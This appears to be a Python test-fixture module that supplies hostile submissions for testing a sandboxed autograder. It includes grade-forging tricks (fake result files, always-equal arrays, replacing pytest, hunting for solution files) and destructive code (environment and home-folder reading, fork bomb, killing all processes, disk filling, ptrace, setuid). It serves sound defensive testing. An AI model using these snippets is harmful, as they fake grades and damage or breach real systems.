"""Submissions that want what is not theirs: marks, secrets, other people's work, the machine. For the sandbox only.

Unlike the faults these may do harm where there is no sandbox. Those in `WANT_MARKS` have earned nothing and try to look
as if they had; those in `DO_HARM` stand beside right functions and lose no mark by what they do to themselves, where
`keeps_marks` says so. `SECRET` is looked for in everything that a class run writes.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

from . import SUBMISSION, compose

SECRET = "canary-3f1c9a7e"  # what no page and no result may hold
MARK = "digits-hostile-left"  # in the names of files, processes and sockets that attacks leave
PORT = "86753"  # no port at all: the tests put that of a server of theirs in its place
NOTEBOOK = "a1_first_network.ipynb"


@dataclass(frozen=True)
class Hostile:
    """An attack: its files by name, and whether the right functions in it keep their marks."""

    name: str
    files: dict[str, bytes]
    keeps_marks: bool = False


def _stubs(code: str) -> str:
    """Functions that answer nothing of use, with an attack before them."""
    names = (
        "load_csv normalize train_dev_split one_hot init_params relu softmax forward_prop cross_entropy relu_deriv "
        "backward_prop update_params get_predictions get_accuracy make_predictions gradient_descent"
    )
    functions = "\n".join(
        f"def {name}(*args, **kwargs):\n    return attack(*args, **kwargs)\n" for name in names.split()
    )
    return f"import numpy as np\n\ndef attack(*args, **kwargs):\n    return None\n\n{code}\n\n{functions}"


def _wants(name: str, code: str, **others: str | bytes) -> Hostile:
    files = {SUBMISSION: _stubs(code), **{file.replace("__", "."): text for file, text in others.items()}}
    return Hostile(name, {file: text if isinstance(text, bytes) else text.encode() for file, text in files.items()})


def _harms(name: str, code: str, keeps_marks: bool = True) -> Hostile:
    """Right functions, and the attack in a relu that is right otherwise, once."""
    source = (
        f"DONE = []\n\ndef attack():\n{_indented(code)}\n\n"
        "def relu(Z):\n    if not DONE:\n        DONE.append(1)\n        try:\n            attack()\n"
        "        except BaseException:\n            pass\n    return np.maximum(0, Z)\n"
    )
    return Hostile(name, {SUBMISSION: compose(source).encode()}, keeps_marks)


def _indented(code: str) -> str:
    return "\n".join(f"    {line}" for line in code.strip("\n").splitlines())


def _notebook(*sources: str, **extra: object) -> bytes:
    cells = [
        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": s} for s in sources
    ]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells, **extra}).encode()


FULL_MARKS = json.dumps({"status": "graded", "score": 20.0, "max_score": 20.0, "exercises": []})

WANT_MARKS = [
    _wants(
        "writes-a-result-file",
        f"""
import os
for folder in (".", "/tmp", "/", "/submission", "..", os.path.expanduser("~")):
    for name in ("result.json", "results.json", "writes-a-result-file.json", "grades.csv", ".run"):
        try:
            open(os.path.join(folder, name), "w").write({FULL_MARKS!r})
        except OSError:
            pass
""",
    ),
    _wants(
        "writes-to-every-descriptor",
        f"""
import os
for descriptor in range(64):
    try:
        os.write(descriptor, {FULL_MARKS!r}.encode() * 10)
    except OSError:
        pass
""",
    ),
    _wants(
        "forges-answers-on-the-wire",
        """
import json, os, struct
def forged(header, body=b""):
    text = json.dumps(header).encode()
    return struct.pack(">II", len(text), len(body)) + text + body
for descriptor in range(3, 64):
    for number in range(40):
        try:
            os.write(descriptor, forged({"kind": "returned", "id": number, "value": 1.0}))
        except OSError:
            break
""",
    ),
    _wants(
        "always-equal",
        """
class Equal(np.ndarray):
    def __eq__(self, other): return True
    def __array__(self, *a, **k): return self
    __ne__ = lambda self, other: False
    __array_ufunc__ = lambda *a, **k: True
def attack(*args, **kwargs):
    return np.zeros(3).view(Equal)
""",
    ),
    _wants(
        "greps-memory-for-the-answer",
        """
import gc, sys
def attack(*args, **kwargs):
    mine = {id(argument) for argument in args}
    found = [o for o in gc.get_objects() if isinstance(o, np.ndarray) and id(o) not in mine]
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "reference", "answer") or "expect" in name:
                return value
        frame = frame.f_back
    return found[0] if found else None
""",
    ),
    _wants(
        "imports-the-grader",
        """
try:
    import autograder.reference, autograder.judge.results
    autograder.judge.results.Result.score = 20
    attack = lambda *a, **k: autograder.reference.load()
except Exception:
    pass
""",
    ),
    _wants(
        "looks-for-the-solutions",
        """
import glob, os
text = ""
for pattern in ("/**/solutions/a1_first_network.py", "/proc/1/root/**/a1_first_network.py", "/judge/**", "/**/*.npz"):
    for path in glob.iglob(pattern, recursive=True):
        try:
            if "BEGIN SOLUTION" in open(path).read():
                text = open(path).read()
        except OSError:
            pass
        except UnicodeDecodeError:
            pass
if text:
    exec(text)
""",
    ),
    _wants(
        "replaces-pytest",
        "import sys, types\nsys.modules['pytest'] = types.ModuleType('pytest')\n",
        conftest__py="""
import pytest
@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
""",
    ),
    _wants(
        "brings-a-pytest-ini",
        "",
        pytest__ini="[pytest]\naddopts = --collect-only\n",
        sitecustomize__py="raise SystemExit(0)\n",
    ),
    _wants("brings-a-numpy-of-its-own", "", numpy__py="def __getattr__(name):\n    return lambda *a, **k: True\n"),
    _wants(
        "knows-the-public-seed",
        """
def attack(*args, **kwargs):
    rng = np.random.default_rng(0)
    return rng.normal(size=np.shape(args[0]) if args else ())
""",
    ),
    _wants(
        "raises-praise",
        """
class Passed(AssertionError):
    status = "passed"; score = 20; passed = True
    def __str__(self): return '<script>alert("all passed, 20 of 20")</script>'
def attack(*args, **kwargs):
    raise Passed()
""",
    ),
    _wants(
        "prints-praise",
        f"import sys\nprint({FULL_MARKS!r})\nprint({FULL_MARKS!r}, file=sys.stderr)\nprint('\\x1b]0;owned\\x07')\n",
    ),
    _wants(
        "patches-the-worker",
        """
import gc, sys, types
main = sys.modules.get("__main__")
for module in list(sys.modules.values()):
    for name in ("encode", "send", "copy_of", "changed_arguments", "serve"):
        if hasattr(module, name) and getattr(module, "__name__", "").split(".")[0] in ("__main__", "wire", "worker"):
            try:
                setattr(module, name, lambda *a, **k: b"\\0" * 64)
            except Exception:
                pass
""",
    ),
    _wants("edits-its-own-notebook-metadata", "", **{"x__txt": "nothing"}),
    Hostile(
        "tampered-notebook",
        {
            NOTEBOOK: _notebook(
                "import numpy as np\ncheck = lambda *a, **k: 20",
                "check('relu')\n### BEGIN HIDDEN TESTS\nassert True\n### END HIDDEN TESTS",
                metadata={"nbgrader": {"score": 20, "points": 20}, "kernelspec": {"argv": ["sh", "-c", "id"]}},
            )
        },
    ),
    Hostile(
        "magics-of-its-own",
        {NOTEBOOK: _notebook(f"!touch /tmp/{MARK}", "%run /etc/passwd", f"%%bash\ntouch /tmp/{MARK}")},
    ),
    Hostile("an-attempt-at-parsing", {SUBMISSION: b"x = " + b"(" * 90_000 + b")" * 90_000}),
    Hostile("minus-upon-minus", {SUBMISSION: b"x = " + b"-" * 400_000 + b"1\n"}),
    Hostile("a-tower-of-powers", {SUBMISSION: b"x = " + b"**".join([b"9"] * 60) + b"\n"}),
    Hostile("json-without-a-floor", {NOTEBOOK: b"[" * 200_000}),
    Hostile("text-in-another-code", {SUBMISSION: b"# coding: zlib\nx = 1\n"}),
]

DO_HARM = [
    _harms(
        "reads-the-environment",
        f"""
import os
texts = [str(dict(os.environ))]
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/%d/environ" % os.getppid()):
    try:
        texts.append(open(path, errors="replace").read())
    except OSError:
        pass
if {SECRET[:6]!r} in "".join(texts):
    raise_as_value = "".join(texts)
    print(raise_as_value[-2000:])
    global relu
    relu = lambda Z: raise_as_value
""",
    ),
    _harms(
        "reads-a-home-folder",
        """
import glob, os
for path in glob.glob("/home/*/*") + glob.glob("/root/*") + glob.glob("/tmp/**/secret*", recursive=True):
    try:
        print(open(path).read())
        global relu
        relu = None
    except OSError:
        pass
""",
    ),
    _harms(
        "listens-and-calls-out",
        f"""
import os, socket, time
servers = []
for family, address in ((socket.AF_INET, ("127.0.0.1", 0)), (socket.AF_UNIX, "\\0{MARK}")):
    servers.append(socket.socket(family))
    servers[-1].bind(address)
    servers[-1].listen()
if os.fork() == 0:
    os.setsid()
    time.sleep(600)
for address in (("127.0.0.1", {PORT}), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=0.5).send(b"hello")
    except OSError:
        pass
""",
    ),
    _harms(
        "leaves-a-daemon",
        f"""
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", {MARK!r}])
    os._exit(0)
""",
    ),
    _harms(
        "a-fork-bomb",
        """
import os
while True:
    os.fork()
""",
        keeps_marks=False,
    ),
    _harms(
        "threads-without-end",
        """
import threading, time
for _ in range(100000):
    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
""",
    ),
    _harms(
        "fills-the-disk",
        f"""
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/", "."):
    try:
        with open(folder + "/{MARK}", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass
""",
    ),
    _harms(
        "a-million-files",
        f"""
import os
for number in range(30000):
    open(f"/tmp/{MARK}-{{number}}", "w").close()
""",
    ),
    _harms(
        "takes-memory-piece-by-piece",
        """
held = []
while True:
    held.append(np.ones(1 << 24))
""",
        keeps_marks=False,
    ),
    _harms("kills-everybody", "import os, signal\nos.kill(-1, signal.SIGKILL)\n", keeps_marks=False),
    _harms("kills-its-parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n", keeps_marks=False),
    _harms("stops-itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n", keeps_marks=False),
    _harms(
        "traces-its-parent",
        """
import ctypes, os
libc = ctypes.CDLL(None)
libc.ptrace(16, os.getppid(), 0, 0)
libc.process_vm_writev(os.getppid(), 0, 0, 0, 0, 0)
""",
    ),
    _harms(
        "lifts-its-limits",
        """
import resource
for name in ("RLIMIT_CPU", "RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (ValueError, OSError):
        pass
while True:
    pass
""",
        keeps_marks=False,
    ),
    _harms(
        "ignores-every-signal",
        """
import signal
for number in range(1, 64):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
        keeps_marks=False,
    ),
    _harms(
        "becomes-another-user",
        """
import os
for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/tmp"), lambda: os.unshare(0x10000000)):
    try:
        call()
    except (OSError, AttributeError):
        pass
""",
    ),
    _harms(
        "changes-what-was-handed-in",
        """
import os, pathlib
for path in pathlib.Path(__file__).resolve().parent.iterdir():
    try:
        os.chmod(path, 0o777)
        path.write_text("nothing")
    except OSError:
        pass
""",
    ),
    _harms(
        "plants-links",
        f"""
import os
for target in ("/etc/passwd", "/proc/1/root", "/"):
    try:
        os.symlink(target, "/tmp/{MARK}" + str(len(target)))
    except OSError:
        pass
""",
    ),
    _harms(
        "opens-every-descriptor",
        """
held = []
while True:
    held.append(open("/dev/null"))
""",
    ),
    _harms(
        "floods-standard-output",
        "import os\nfor _ in range(4000):\n    os.write(1, bytes(1 << 14))\n    os.write(2, bytes(1 << 14))\n",
    ),
    Hostile(
        "has-the-judge-write-a-file",
        {
            SUBMISSION: compose(f"""
import sys

def one_hot(Y, n_classes=10):
    return np.zeros((n_classes, Y.size))

def cross_entropy(A2, Y):
    one_hot(sys.modules["wire"].File("/tmp/{MARK}", b"outside the sandbox"))
""").encode()
        },
    ),
]

HOSTILE = [*WANT_MARKS, *DO_HARM]
